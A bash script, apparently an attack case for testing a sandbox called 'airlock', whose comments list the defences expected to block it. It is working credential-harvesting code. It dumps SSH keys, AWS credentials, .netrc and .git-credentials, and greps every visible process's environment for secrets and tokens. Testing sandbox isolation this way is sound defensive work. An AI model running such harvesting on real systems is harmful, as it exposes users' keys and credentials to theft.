#!/bin/bash
# attack: airlock: read the planted secrets directly: each path in $SECRETS, everything under ~/.ssh and ~/.aws, and the environment (own, and every visible process's /proc/PID/environ)
# stopped by: namespaces(.ssh), kernel(/proc/1/environ)
echo "SECRETS=${SECRETS:-<not set>}"
IFS_OLD=$IFS; IFS=:
for f in $SECRETS; do
    IFS=$IFS_OLD
    echo "== $f"; cat "$f" 2>&1
done
IFS=$IFS_OLD
for f in "$HOME"/.ssh/* "$HOME"/.ssh/.[!.]* "$HOME"/.aws/* "$HOME"/.config/airlock/* "$HOME"/.netrc "$HOME"/.git-credentials; do
    [ -e "$f" ] || { echo "== $f: absent"; continue; }
    echo "== $f"; cat "$f" 2>&1
done
echo "== environment"
env | grep -iE 'secret|token|key|password|credential' || echo "(none)"
for p in /proc/[0-9]*; do
    [ "$p" = "/proc/$$" ] && continue
    out=$(tr '\0' '\n' < "$p/environ" 2>&1) || { echo "== $p/environ: $out"; continue; }
    echo "== $p/environ"; printf '%s\n' "$out" | grep -iE 'secret|token|key|password|credential' || echo "(nothing of note)"
done
